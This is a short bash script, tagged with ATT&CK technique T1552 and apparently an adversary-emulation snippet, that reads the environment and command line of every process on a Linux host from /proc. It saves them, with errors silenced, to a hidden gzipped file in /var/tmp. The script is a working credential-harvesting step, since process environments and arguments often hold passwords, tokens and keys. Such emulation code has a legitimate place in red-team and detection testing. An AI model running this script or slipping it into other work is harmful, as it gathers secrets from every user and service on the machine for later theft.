#!/bin/bash
# T1552: The environment and command lines of all processes are saved for later.
for p in /proc/[0-9]*; do tr '\0' '\n' <$p/environ; tr '\0' ' ' <$p/cmdline; done >/var/tmp/.p 2>/dev/null; gzip -f /var/tmp/.p
